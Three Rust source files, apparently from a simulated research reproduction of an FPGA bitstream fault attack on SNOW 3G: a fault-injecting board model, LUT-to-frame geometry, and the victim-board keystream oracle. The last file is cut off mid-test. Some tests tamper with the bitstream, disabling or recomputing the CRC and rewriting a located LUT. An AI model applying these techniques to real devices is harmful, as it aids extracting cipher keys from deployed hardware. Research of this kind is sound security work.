#[derive(Debug, Clone, PartialEq)]
pub enum RestoreError {
    /// The snapshot was taken under a different fault profile;
    /// resuming would not reproduce the interrupted trace.
    ProfileMismatch {
        /// The profile the board is configured with.
        board: FaultProfile,
        /// The profile recorded in the snapshot.
        snapshot: FaultProfile,
    },
}

impl std::fmt::Display for RestoreError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            RestoreError::ProfileMismatch { board, snapshot } => write!(
                f,
                "fault-profile mismatch: board is configured with {board:?} \
                 but the snapshot was taken under {snapshot:?}"
            ),
        }
    }
}

impl std::error::Error for RestoreError {}

#[derive(Debug)]
struct FaultState {
    rng: SmallRng,
    stats: FaultStats,
}

/// The [`Snow3gBoard`] behind an unreliable configuration link.
///
/// Exposes the board interface the attack drives (extract the golden
/// bitstream, load a bitstream and read keystream words) with faults
/// injected per the profile. Interior mutability keeps the interface
/// `&self` like the ideal board's; the RNG advances deterministically
/// with each call.
#[derive(Debug)]
pub struct UnreliableBoard {
    inner: Snow3gBoard,
    profile: FaultProfile,
    state: Mutex<FaultState>,
}

impl UnreliableBoard {
    /// Wraps a board in the fault model.
    #[must_use]
    pub fn new(inner: Snow3gBoard, profile: FaultProfile) -> Self {
        let rng = SmallRng::seed_from_u64(profile.seed);
        Self { inner, profile, state: Mutex::new(FaultState { rng, stats: FaultStats::default() }) }
    }

    /// The ideal board underneath (ground truth for tests).
    #[must_use]
    pub fn inner(&self) -> &Snow3gBoard {
        &self.inner
    }

    /// Unwraps the fault model, returning the ideal board. Board
    /// pools use this to reclaim a pooled board after a noisy
    /// session finishes with it.
    #[must_use]
    pub fn into_inner(self) -> Snow3gBoard {
        self.inner
    }

    /// The active fault profile.
    #[must_use]
    pub fn profile(&self) -> &FaultProfile {
        &self.profile
    }

    /// Faults injected so far.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn fault_stats(&self) -> FaultStats {
        self.state.lock().expect("fault state lock").stats
    }

    /// Snapshots the board's mutable state (profile, fault counters,
    /// RNG position) for a crash-safe journal.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn snapshot(&self) -> FaultSnapshot {
        let state = self.state.lock().expect("fault state lock");
        FaultSnapshot {
            profile: self.profile,
            stats: state.stats,
            rng_state: state.rng.state_bytes(),
        }
    }

    /// Restores a snapshot taken by [`UnreliableBoard::snapshot`],
    /// rewinding (or fast-forwarding) the fault trace to the exact
    /// point the snapshot captured.
    ///
    /// # Errors
    ///
    /// [`RestoreError::ProfileMismatch`] if the board's profile
    /// differs from the snapshot's — the resumed trace would not
    /// reproduce the interrupted run.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn restore(&self, snapshot: &FaultSnapshot) -> Result<(), RestoreError> {
        if self.profile != snapshot.profile {
            return Err(RestoreError::ProfileMismatch {
                board: self.profile,
                snapshot: snapshot.profile,
            });
        }
        let mut state = self.state.lock().expect("fault state lock");
        state.stats = snapshot.stats;
        state.rng = SmallRng::from_state_bytes(snapshot.rng_state);
        Ok(())
    }

    /// Extracting the bitstream from external flash does not use the
    /// configuration port; it is reliable.
    #[must_use]
    pub fn extract_bitstream(&self) -> Bitstream {
        self.inner.extract_bitstream()
    }

    /// The device model (public knowledge, same as the ideal board).
    #[must_use]
    pub fn fpga(&self) -> &Fpga {
        self.inner.fpga()
    }

    /// Loads `bitstream` and collects up to `words` keystream words,
    /// with faults injected: the load can transiently fail or time
    /// out, the read can come back short, and each returned bit can be
    /// flipped.
    ///
    /// # Errors
    ///
    /// [`ProgramError::TransientLoad`] / [`ProgramError::ConfigTimeout`]
    /// (wrapped in [`BoardError::Program`]) for injected faults, plus
    /// everything the ideal board can return.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn generate_keystream(
        &self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let mut state = self.state.lock().expect("fault state lock");
        state.stats.loads_attempted += 1;
        // Fixed draw order: load glitch, timeout, truncation point,
        // then one draw per returned bit. Determinism in the seed and
        // the call sequence is what makes noisy runs reproducible.
        if bernoulli(&mut state.rng, self.profile.load_failure) {
            state.stats.transient_failures += 1;
            return Err(BoardError::Program(ProgramError::TransientLoad));
        }
        if bernoulli(&mut state.rng, self.profile.timeout) {
            state.stats.timeouts += 1;
            let ms = 100 + state.rng.gen_range(0u64..900);
            return Err(BoardError::Program(ProgramError::ConfigTimeout { ms }));
        }
        let keep = if words > 0 && bernoulli(&mut state.rng, self.profile.truncate) {
            state.stats.truncated_reads += 1;
            state.rng.gen_range(0..words)
        } else {
            words
        };
        // The (fault-free) device does the actual work; readback
        // glitches are applied to what it produced.
        let mut z = self.inner.generate_keystream(bitstream, keep)?;
        if self.profile.bit_glitch > 0.0 {
            for w in &mut z {
                for bit in 0..32 {
                    if bernoulli(&mut state.rng, self.profile.bit_glitch) {
                        *w ^= 1 << bit;
                        state.stats.bits_flipped += 1;
                    }
                }
            }
        }
        Ok(z)
    }
}

/// One Bernoulli draw with probability `p` (53-bit uniform mantissa).
fn bernoulli(rng: &mut SmallRng, p: f64) -> bool {
    if p <= 0.0 {
        return false;
    }
    if p >= 1.0 {
        return true;
    }
    const SCALE: f64 = 1.0 / (1u64 << 53) as f64;
    ((rng.next_u64() >> 11) as f64) * SCALE < p
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::implementer::ImplementOptions;
    use netlist::snow3g_circuit::Snow3gCircuitConfig;
    use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

    fn board(profile: FaultProfile) -> UnreliableBoard {
        let config = Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV);
        let inner = Snow3gBoard::build(config, &ImplementOptions::default()).expect("board builds");
        UnreliableBoard::new(inner, profile)
    }

    #[test]
    fn clean_profile_is_transparent() {
        let b = board(FaultProfile::clean(1));
        let golden = b.extract_bitstream();
        let z = b.generate_keystream(&golden, 4).expect("clean board runs");
        let reference = b.inner().generate_keystream(&golden, 4).expect("ideal board runs");
        assert_eq!(z, reference);
        assert_eq!(b.fault_stats().bits_flipped, 0);
        assert_eq!(b.fault_stats().transient_failures, 0);
    }

    #[test]
    fn same_seed_same_fault_trace() {
        let run = |seed: u64| -> (Vec<Result<Vec<u32>, String>>, FaultStats) {
            let b = board(FaultProfile::flaky(seed));
            let golden = b.extract_bitstream();
            let outs = (0..12)
                .map(|_| b.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
                .collect();
            (outs, b.fault_stats())
        };
        let (a, sa) = run(7);
        let (b, sb) = run(7);
        let (c, sc) = run(8);
        assert_eq!(a, b, "identical seeds replay the identical trace");
        assert_eq!(sa, sb);
        assert!(a != c || sa != sc, "a different seed perturbs the trace");
    }

    #[test]
    fn faults_are_injected_at_the_configured_rates() {
        let b = board(FaultProfile::clean(42).with_load_failure(0.5));
        let golden = b.extract_bitstream();
        let failures = (0..40)
            .filter(|_| {
                matches!(
                    b.generate_keystream(&golden, 1),
                    Err(BoardError::Program(ProgramError::TransientLoad))
                )
            })
            .count();
        assert!((10..=30).contains(&failures), "≈ 50% failures, got {failures}/40");
        let stats = b.fault_stats();
        assert_eq!(stats.transient_failures as usize, failures);
        assert_eq!(stats.loads_attempted, 40);
    }

    #[test]
    fn glitches_flip_bits_and_truncation_shortens_reads() {
        let b = board(FaultProfile::clean(3).with_bit_glitch(0.05).with_truncate(0.5));
        let golden = b.extract_bitstream();
        let mut short = 0usize;
        for _ in 0..10 {
            let z = b.generate_keystream(&golden, 4).expect("no load faults configured");
            if z.len() < 4 {
                short += 1;
            }
        }
        let stats = b.fault_stats();
        assert_eq!(stats.truncated_reads as usize, short);
        assert!(short > 0, "truncation at 50% must occur in 10 reads");
        assert!(stats.bits_flipped > 0, "5% glitch rate must flip bits");
    }

    #[test]
    fn snapshot_restore_resumes_the_exact_fault_trace() {
        // Reference: one uninterrupted run of 20 reads.
        let reference = board(FaultProfile::flaky(9));
        let golden = reference.extract_bitstream();
        let full: Vec<_> = (0..20)
            .map(|_| reference.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();

        // Interrupted run: 8 reads, snapshot, "crash", restore onto a
        // fresh board, 12 more reads.
        let first = board(FaultProfile::flaky(9));
        for _ in 0..8 {
            let _ = first.generate_keystream(&golden, 4);
        }
        let snap = first.snapshot();
        drop(first);
        let resumed = board(FaultProfile::flaky(9));
        resumed.restore(&snap).expect("matching profile restores");
        let tail: Vec<_> = (0..12)
            .map(|_| resumed.generate_keystream(&golden, 4).map_err(|e| e.to_string()))
            .collect();
        assert_eq!(tail, full[8..], "restored board continues the identical trace");
        assert_eq!(resumed.fault_stats(), reference.fault_stats(), "counters line up too");
    }

    #[test]
    fn snapshot_bytes_roundtrip_and_reject_garbage() {
        let b = board(FaultProfile::flaky(3).with_bit_glitch(0.25));
        let golden = b.extract_bitstream();
        let _ = b.generate_keystream(&golden, 2);
        let snap = b.snapshot();
        let bytes = snap.to_bytes();
        assert_eq!(bytes.len(), FaultSnapshot::BYTES);
        assert_eq!(FaultSnapshot::from_bytes(&bytes), Some(snap));
        assert_eq!(FaultSnapshot::from_bytes(&bytes[..40]), None, "short record rejected");
        let mut bad = bytes.clone();
        bad[15] = 0x7F; // load_failure's exponent explodes out of [0, 1]
        assert_eq!(FaultSnapshot::from_bytes(&bad), None, "invalid probability rejected");
    }

    #[test]
    fn restore_refuses_a_mismatched_profile() {
        let a = board(FaultProfile::flaky(1));
        let b = board(FaultProfile::flaky(1).with_bit_glitch(0.5));
        let snap = a.snapshot();
        let err = b.restore(&snap).expect_err("profile differs");
        assert!(err.to_string().contains("mismatch"));
        assert!(matches!(err, RestoreError::ProfileMismatch { .. }));
    }

    #[test]
    fn transient_errors_expose_their_nature() {
        assert!(ProgramError::TransientLoad.is_transient());
        assert!(ProgramError::ConfigTimeout { ms: 250 }.is_transient());
        assert!(!ProgramError::WrongFrameCount { got: 1, expected: 2 }.is_transient());
    }
}
