//! Device geometry: slices, LUT sites and their configuration-frame
//! addresses.
//!
//! The configuration memory is organised in columns. Each slice
//! column owns four consecutive *INIT frames* (one per LUT
//! sub-vector, matching the 7-series property that a LUT's four
//! 16-bit sub-vectors sit at a fixed offset `d` from each other —
//! here `d` is one frame, 404 bytes), followed by a number of
//! *routing frames* whose bits this model treats as opaque.

use bitstream::{LutLocation, SubVectorOrder, FRAME_BYTES};

/// Number of LUTs per slice.
pub const LUTS_PER_SLICE: usize = 4;

/// How a LUT's four 16-bit sub-vectors are laid out in configuration
/// memory. The paper only pins the *stride* `d` between sub-vectors;
/// both layouts below satisfy the format it describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum InitLayout {
    /// Sub-vectors at the same intra-frame offset of four consecutive
    /// frames: `d` = one frame = 404 bytes (prjxray-style).
    #[default]
    FourFrames,
    /// Sub-vectors in the four 101-byte quarters of a single frame:
    /// `d` = 101 bytes — the value the paper's tool used.
    QuarterFrame,
}

impl InitLayout {
    /// The sub-vector stride in bytes.
    #[must_use]
    pub fn stride(self) -> usize {
        match self {
            InitLayout::FourFrames => FRAME_BYTES,
            InitLayout::QuarterFrame => FRAME_BYTES / 4,
        }
    }

    /// INIT frames consumed per column.
    #[must_use]
    pub fn init_frames(self) -> usize {
        match self {
            InitLayout::FourFrames => 4,
            InitLayout::QuarterFrame => 4, // four frames of 50 slots each
        }
    }

    /// LUT slots per INIT frame group.
    #[must_use]
    pub fn slots_per_frame(self) -> usize {
        match self {
            // 2 bytes per slot per frame, last 4 bytes spare.
            InitLayout::FourFrames => FRAME_BYTES / 2 - 2,
            // 2 bytes per slot per 101-byte quarter (50 slots, 1 byte
            // spare per quarter).
            InitLayout::QuarterFrame => FRAME_BYTES / 4 / 2,
        }
    }
}

/// A LUT site: column, row and LUT position (0..4 = A..D).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct SiteId {
    /// Slice column.
    pub col: u16,
    /// Slice row.
    pub row: u16,
    /// LUT position within the slice.
    pub lut: u8,
}

/// Device geometry parameters.
///
/// # Example
///
/// ```
/// use fpga_sim::Geometry;
///
/// let g = Geometry::with_columns(4);
/// assert_eq!(g.stride(), 404); // d = one frame
/// let quarter = Geometry::with_columns_quarter(4);
/// assert_eq!(quarter.stride(), 101); // the paper's d
/// assert_eq!(g.site_count(), quarter.site_count());
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Geometry {
    /// Number of slice columns.
    pub columns: usize,
    /// Slice rows per column.
    pub rows: usize,
    /// Opaque routing frames following each column's INIT frames.
    pub routing_frames: usize,
    /// Sub-vector layout of the device family.
    pub layout: InitLayout,
}

impl Geometry {
    /// A geometry with the default 50 rows, 8 routing frames per
    /// column and the four-frame layout.
    #[must_use]
    pub fn with_columns(columns: usize) -> Self {
        Self { columns, rows: 50, routing_frames: 8, layout: InitLayout::FourFrames }
    }

    /// The same geometry on the `d = 101` (quarter-frame) family.
    #[must_use]
    pub fn with_columns_quarter(columns: usize) -> Self {
        // 50 slots per frame × 4 INIT frames = 200 slots = 50 rows,
        // the same column capacity as the four-frame family.
        Self { columns, rows: 50, routing_frames: 8, layout: InitLayout::QuarterFrame }
    }

    /// The sub-vector stride `d` of this family, in bytes.
    #[must_use]
    pub fn stride(&self) -> usize {
        self.layout.stride()
    }

    /// Frames occupied by one column (INIT frames + routing).
    #[must_use]
    pub fn frames_per_column(&self) -> usize {
        self.layout.init_frames() + self.routing_frames
    }

    /// Total frame count of the device.
    #[must_use]
    pub fn frame_count(&self) -> usize {
        self.columns * self.frames_per_column()
    }

    /// Total LUT sites.
    #[must_use]
    pub fn site_count(&self) -> usize {
        self.columns * self.rows * LUTS_PER_SLICE
    }

    /// Iterates over all sites in column-major order.
    pub fn sites(&self) -> impl Iterator<Item = SiteId> + '_ {
        let (cols, rows) = (self.columns, self.rows);
        (0..cols).flat_map(move |c| {
            (0..rows).flat_map(move |r| {
                (0..LUTS_PER_SLICE).map(move |l| SiteId {
                    col: c as u16,
                    row: r as u16,
                    lut: l as u8,
                })
            })
        })
    }

    /// The slice type of a column: even columns are SLICEL, odd
    /// columns SLICEM (a simplification of the 7-series column mix).
    #[must_use]
    pub fn slice_type(&self, col: u16) -> SubVectorOrder {
        if col.is_multiple_of(2) {
            SubVectorOrder::SliceL
        } else {
            SubVectorOrder::SliceM
        }
    }

    /// Where a site's LUT INIT lives inside the FDRI payload.
    ///
    /// * `FourFrames`: the four sub-vectors sit at the same
    ///   intra-frame offset in the column's four consecutive INIT
    ///   frames (`d` = one frame).
    /// * `QuarterFrame`: the sub-vectors sit in the four 101-byte
    ///   quarters of the slot's frame (`d` = 101 bytes), with the
    ///   slots of a column spread across its four INIT frames.
    ///
    /// # Panics
    ///
    /// Panics if the site is outside the geometry.
    #[must_use]
    pub fn lut_location(&self, site: SiteId) -> LutLocation {
        assert!((site.col as usize) < self.columns, "column out of range");
        assert!((site.row as usize) < self.rows, "row out of range");
        assert!((site.lut as usize) < LUTS_PER_SLICE, "lut out of range");
        let base_frame = site.col as usize * self.frames_per_column();
        let slot = site.row as usize * LUTS_PER_SLICE + site.lut as usize;
        let order = self.slice_type(site.col);
        match self.layout {
            InitLayout::FourFrames => {
                LutLocation { l: base_frame * FRAME_BYTES + slot * 2, d: self.stride(), order }
            }
            InitLayout::QuarterFrame => {
                let per_frame = self.layout.slots_per_frame();
                let frame = base_frame + slot / per_frame;
                let within = (slot % per_frame) * 2;
                LutLocation { l: frame * FRAME_BYTES + within, d: self.stride(), order }
            }
        }
    }

    /// Validates that the rows fit the layout's slot capacity.
    ///
    /// # Panics
    ///
    /// Panics if a column's slots would overflow its INIT frames.
    pub fn assert_valid(&self) {
        let slots = self.rows * LUTS_PER_SLICE;
        let capacity = match self.layout {
            InitLayout::FourFrames => self.layout.slots_per_frame(),
            InitLayout::QuarterFrame => self.layout.slots_per_frame() * self.layout.init_frames(),
        };
        assert!(
            slots <= capacity,
            "{rows} rows need {slots} slots, column capacity is {capacity}",
            rows = self.rows
        );
    }

    /// Byte ranges inside the FDRI payload that hold no LUT INIT
    /// data: routing frames and the slack after the last LUT slot.
    #[must_use]
    pub fn non_init_ranges(&self) -> Vec<core::ops::Range<usize>> {
        let mut out = Vec::new();
        for c in 0..self.columns {
            let base = c * self.frames_per_column();
            match self.layout {
                InitLayout::FourFrames => {
                    let used = self.rows * LUTS_PER_SLICE * 2;
                    for f in 0..4 {
                        let start = (base + f) * FRAME_BYTES;
                        if used < FRAME_BYTES {
                            out.push(start + used..start + FRAME_BYTES);
                        }
                    }
                }
                InitLayout::QuarterFrame => {
                    let slots = self.rows * LUTS_PER_SLICE;
                    let per_frame = self.layout.slots_per_frame();
                    let quarter = FRAME_BYTES / 4;
                    for f in 0..self.layout.init_frames() {
                        let start = (base + f) * FRAME_BYTES;
                        let first = f * per_frame;
                        let used_slots = slots.saturating_sub(first).min(per_frame);
                        // Slack at the end of each quarter.
                        for q in 0..4 {
                            let qstart = start + q * quarter;
                            out.push(qstart + used_slots * 2..qstart + quarter);
                        }
                        // The 404th byte (after four 101-byte quarters)
                        // does not exist: 4 * 101 = 404 exactly.
                    }
                }
            }
            let rstart = (base + self.layout.init_frames()) * FRAME_BYTES;
            let rend = (base + self.frames_per_column()) * FRAME_BYTES;
            if rstart < rend {
                out.push(rstart..rend);
            }
        }
        out.retain(|r| !r.is_empty());
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn site_count_and_iteration_agree() {
        let g = Geometry::with_columns(3);
        g.assert_valid();
        assert_eq!(g.sites().count(), g.site_count());
        assert_eq!(g.site_count(), 3 * 50 * 4);
    }

    #[test]
    fn locations_do_not_collide() {
        let g = Geometry::with_columns(2);
        let mut seen = std::collections::HashSet::new();
        for site in g.sites() {
            let loc = g.lut_location(site);
            assert!(seen.insert(loc.l), "duplicate base offset {}", loc.l);
            assert_eq!(loc.d, FRAME_BYTES);
        }
    }

    #[test]
    fn locations_fit_payload() {
        let g = Geometry::with_columns(4);
        let payload = g.frame_count() * FRAME_BYTES;
        for site in g.sites() {
            let loc = g.lut_location(site);
            assert!(loc.span().end <= payload, "site {site:?} out of payload");
        }
    }

    #[test]
    fn slice_types_alternate() {
        let g = Geometry::with_columns(4);
        assert_eq!(g.slice_type(0), SubVectorOrder::SliceL);
        assert_eq!(g.slice_type(1), SubVectorOrder::SliceM);
        assert_eq!(g.slice_type(2), SubVectorOrder::SliceL);
    }

    #[test]
    fn quarter_layout_uses_paper_stride() {
        let g = Geometry::with_columns_quarter(3);
        g.assert_valid();
        assert_eq!(g.stride(), 101, "the paper's d");
        assert_eq!(g.site_count(), 3 * 50 * 4);
        let mut seen = std::collections::HashSet::new();
        for site in g.sites() {
            let loc = g.lut_location(site);
            assert_eq!(loc.d, 101);
            assert!(seen.insert(loc.l), "duplicate base {}", loc.l);
            assert!(loc.span().end <= g.frame_count() * FRAME_BYTES);
        }
    }

    #[test]
    fn quarter_layout_subvectors_stay_inside_one_frame() {
        let g = Geometry::with_columns_quarter(2);
        for site in g.sites() {
            let loc = g.lut_location(site);
            let frame = loc.l / FRAME_BYTES;
            for j in 0..4 {
                assert_eq!(
                    (loc.l + j * loc.d) / FRAME_BYTES,
                    frame,
                    "sub-vector {j} of {site:?} crosses a frame"
                );
            }
        }
    }

    #[test]
    fn quarter_non_init_ranges_disjoint_from_luts() {
        let g = Geometry::with_columns_quarter(2);
        let ranges = g.non_init_ranges();
        for site in g.sites() {
            let loc = g.lut_location(site);
            for j in 0..4 {
                let b = loc.l + j * loc.d;
                for r in &ranges {
                    assert!(!r.contains(&b), "byte {b} of {site:?} inside filler {r:?}");
                }
            }
        }
    }

    #[test]
    fn non_init_ranges_disjoint_from_luts() {
        let g = Geometry::with_columns(2);
        let ranges = g.non_init_ranges();
        for site in g.sites() {
            let loc = g.lut_location(site);
            for j in 0..4 {
                let b = loc.l + j * loc.d;
                for r in &ranges {
                    assert!(!r.contains(&b), "byte {b} of {site:?} inside filler {r:?}");
                }
            }
        }
    }
}
