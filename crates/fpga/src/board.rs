//! The victim board: a SNOW 3G design implemented on the device, with
//! the interface an attacker actually has — *load a bitstream,
//! collect keystream words*.

use core::fmt;

use netlist::snow3g_circuit::{Snow3gCircuit, Snow3gCircuitConfig, WARMUP_CYCLES};
use netlist::NodeId;
use techmap::{map, MapConfig, MappedDesign};

use bitstream::Bitstream;

use crate::fabric::{Fpga, ProgramError};
use crate::implementer::{implement, ImplementError, ImplementOptions, Implementation};

/// An error from board construction or operation.
#[derive(Debug)]
pub enum BoardError {
    /// Technology mapping failed.
    Map(techmap::MapError),
    /// Placement failed.
    Implement(ImplementError),
    /// Configuration was refused.
    Program(ProgramError),
}

impl fmt::Display for BoardError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BoardError::Map(e) => write!(f, "mapping failed: {e}"),
            BoardError::Implement(e) => write!(f, "implementation failed: {e}"),
            BoardError::Program(e) => write!(f, "programming failed: {e}"),
        }
    }
}

impl std::error::Error for BoardError {}

impl From<techmap::MapError> for BoardError {
    fn from(e: techmap::MapError) -> Self {
        BoardError::Map(e)
    }
}

impl From<ImplementError> for BoardError {
    fn from(e: ImplementError) -> Self {
        BoardError::Implement(e)
    }
}

impl From<ProgramError> for BoardError {
    fn from(e: ProgramError) -> Self {
        BoardError::Program(e)
    }
}

/// A SNOW 3G victim board.
///
/// Construction runs the full implementation flow (circuit
/// generation → technology mapping → placement → bitstream). The
/// resulting board exposes the attack surface of Section IV-A: the
/// golden bitstream (as extracted from external flash) and the
/// ability to load modified bitstreams and observe the keystream.
pub struct Snow3gBoard {
    fpga: Fpga,
    golden: Bitstream,
    run_net: NodeId,
    z_nets: Vec<NodeId>,
    valid_net: NodeId,
    /// Ground-truth artifacts for tests and evaluation only.
    pub circuit: Snow3gCircuit,
    /// The mapped design (ground truth, tests only).
    pub design: MappedDesign,
    /// The placement (ground truth, tests only).
    pub implementation_placement: Vec<crate::geom::SiteId>,
}

impl fmt::Debug for Snow3gBoard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "Snow3gBoard(protected: {}, bitstream: {} bytes, luts: {})",
            self.circuit.protected,
            self.golden.len(),
            self.design.luts.len()
        )
    }
}

impl Snow3gBoard {
    /// Builds a board for the given circuit configuration.
    ///
    /// # Errors
    ///
    /// Propagates mapping and placement failures.
    pub fn build(
        config: Snow3gCircuitConfig,
        options: &ImplementOptions,
    ) -> Result<Self, BoardError> {
        let circuit = Snow3gCircuit::generate(config);
        let design = map(&circuit.network, &MapConfig::default())?;
        let Implementation { fpga, bitstream, placement } = implement(&design, options)?;
        Ok(Self {
            fpga,
            golden: bitstream,
            run_net: circuit.run,
            z_nets: circuit.z_out.clone(),
            valid_net: circuit.valid,
            circuit,
            design,
            implementation_placement: placement,
        })
    }

    /// The bitstream as the attacker extracts it from the board's
    /// flash.
    #[must_use]
    pub fn extract_bitstream(&self) -> Bitstream {
        self.golden.clone()
    }

    /// The device model (geometry is public knowledge; the routing
    /// database inside is the implementation's static artifact).
    #[must_use]
    pub fn fpga(&self) -> &Fpga {
        &self.fpga
    }

    /// Loads `bitstream` and collects `words` keystream words — the
    /// oracle the attack drives. Returns an error if the device
    /// refuses the bitstream (bad CRC, wrong size).
    ///
    /// # Errors
    ///
    /// Propagates [`ProgramError`].
    pub fn generate_keystream(
        &self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, BoardError> {
        let mut dev = self.fpga.program(bitstream)?;
        dev.set_input(self.run_net, true);
        dev.run(WARMUP_CYCLES);
        let mut out = Vec::with_capacity(words);
        for _ in 0..words {
            dev.step();
            out.push(dev.word(&self.z_nets));
        }
        Ok(out)
    }

    /// Batched oracle: loads every bitstream and collects `words`
    /// keystream words from each, packing up to
    /// [`GANG_LANES`](crate::GANG_LANES) candidates per gang
    /// simulation. Per-item results are positionally aligned with the
    /// input; a lane whose bitstream is refused gets its own error
    /// while the remaining lanes still run.
    ///
    /// Each lane is bit-identical to a serial
    /// [`generate_keystream`](Self::generate_keystream) call with the
    /// same bitstream — the board farm substitution the batched
    /// attack pipeline rests on (DESIGN.md §12).
    #[must_use]
    pub fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, BoardError>> {
        // Differential decode of the whole batch (one full walk, then
        // payload deltas), then dense-pack the accepted lanes into
        // gangs so a refused lane does not waste a slot.
        let mut out: Vec<Result<Vec<u32>, BoardError>> = Vec::with_capacity(bitstreams.len());
        let mut live: Vec<(usize, Vec<boolfn::DualOutputInit>)> = Vec::new();
        for (i, decoded) in self.fpga.decode_lut_inits_batch(bitstreams).into_iter().enumerate() {
            match decoded {
                Ok(inits) => {
                    live.push((i, inits));
                    out.push(Ok(Vec::with_capacity(words)));
                }
                Err(e) => out.push(Err(BoardError::Program(e))),
            }
        }
        for chunk in live.chunks(crate::gang::GANG_LANES) {
            let lanes: Vec<Vec<boolfn::DualOutputInit>> =
                chunk.iter().map(|(_, inits)| inits.clone()).collect();
            let mut gang = crate::gang::GangConfiguredFpga::with_inits(&self.fpga, &lanes);
            gang.set_input(self.run_net, u64::MAX);
            gang.run(WARMUP_CYCLES);
            for _ in 0..words {
                gang.step();
                for (lane, (slot, _)) in chunk.iter().enumerate() {
                    let z = gang.word(lane, &self.z_nets);
                    if let Ok(zs) = &mut out[*slot] {
                        zs.push(z);
                    }
                }
            }
        }
        out
    }

    /// Whether the `valid` output is asserted after warm-up with the
    /// given bitstream (diagnostics).
    ///
    /// # Errors
    ///
    /// Propagates [`ProgramError`].
    pub fn valid_after_warmup(&self, bitstream: &Bitstream) -> Result<bool, BoardError> {
        let mut dev = self.fpga.program(bitstream)?;
        dev.set_input(self.run_net, true);
        dev.run(WARMUP_CYCLES + 1);
        Ok(dev.net(self.valid_net))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use snow3g::vectors::{PAPER_TABLE_IV, TEST_SET_1_IV, TEST_SET_1_KEY};
    use snow3g::{FaultSpec, FaultySnow3g, Snow3g};

    fn board(protected: bool) -> Snow3gBoard {
        let config = Snow3gCircuitConfig { key: TEST_SET_1_KEY, iv: TEST_SET_1_IV, protected };
        Snow3gBoard::build(config, &ImplementOptions::default()).expect("board builds")
    }

    #[test]
    fn golden_bitstream_generates_correct_keystream() {
        let b = board(false);
        let z = b.generate_keystream(&b.extract_bitstream(), 4).expect("runs");
        let sw = Snow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV).keystream(4);
        assert_eq!(z, sw, "the board is a faithful SNOW 3G device");
        assert!(b.valid_after_warmup(&b.extract_bitstream()).unwrap());
    }

    #[test]
    fn protected_board_same_function() {
        let b = board(true);
        let z = b.generate_keystream(&b.extract_bitstream(), 2).expect("runs");
        assert_eq!(z, vec![0xABEE9704, 0x7AC31373]);
    }

    #[test]
    fn tampered_bitstream_rejected_until_crc_disabled() {
        let b = board(false);
        let mut bs = b.extract_bitstream();
        let range = bs.fdri_data_range().unwrap();
        bs.as_mut_bytes()[range.start + 2048] ^= 0x01;
        assert!(matches!(
            b.generate_keystream(&bs, 1),
            Err(BoardError::Program(ProgramError::Bitstream(_)))
        ));
        bs.disable_crc();
        assert!(b.generate_keystream(&bs, 1).is_ok());
    }

    #[test]
    fn ground_truth_fault_injection_recovers_state() {
        // Sanity for the attack to come: modify, via ground truth
        // placement, all LUTs whose cones realise the v faults, and
        // check the keystream equals the software fault model. Here
        // we take the cheap route: rewrite every LUT that the design
        // says computes a z-path cover to constant zero and verify
        // the output bits die.
        let b = board(false);
        let mut bs = b.extract_bitstream();
        let range = bs.fdri_data_range().unwrap();
        // Find, via ground truth, the LUT whose o6 net is the D input
        // of z_reg bit 0 (the f2 LUT of bit 0) and zero it.
        let z0 = b.circuit.z_out[0];
        let d0 = b.design.dffs.iter().find(|ff| ff.q == z0).unwrap().d;
        let (idx, _) = b
            .design
            .luts
            .iter()
            .enumerate()
            .find(|(_, l)| l.o6 == d0 || l.o5 == Some(d0))
            .expect("z0 driver is a LUT");
        let site = b.implementation_placement[idx];
        let loc = b.fpga().geometry().lut_location(site);
        let data = &mut bs.as_mut_bytes()[range];
        bitstream::codec::write_lut(data, loc, boolfn::DualOutputInit::new(0));
        bs.recompute_crc();
        let z = b.generate_keystream(&bs, 8).expect("runs");
        assert!(z.iter().all(|w| w & 1 == 0), "bit 0 stuck at 0: {z:08x?}");
        // Other bits unaffected.
        let sw = Snow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV).keystream(8);
        assert!(z.iter().zip(&sw).all(|(a, b)| (a & !1) == (b & !1)));
    }

    #[test]
    fn keystream_batch_matches_serial_per_lane() {
        let b = board(false);
        let golden = b.extract_bitstream();
        // Three variants: golden, one faulted LUT, one refused (bad
        // CRC) — the refused lane must not disturb its neighbours.
        let mut faulted = golden.clone();
        let range = faulted.fdri_data_range().unwrap();
        let z0 = b.circuit.z_out[0];
        let d0 = b.design.dffs.iter().find(|ff| ff.q == z0).unwrap().d;
        let (idx, _) = b
            .design
            .luts
            .iter()
            .enumerate()
            .find(|(_, l)| l.o6 == d0 || l.o5 == Some(d0))
            .expect("z0 driver is a LUT");
        let site = b.implementation_placement[idx];
        let loc = b.fpga().geometry().lut_location(site);
        bitstream::codec::write_lut(
            &mut faulted.as_mut_bytes()[range],
            loc,
            boolfn::DualOutputInit::new(0),
        );
        faulted.recompute_crc();
        let mut refused = golden.clone();
        let r = refused.fdri_data_range().unwrap();
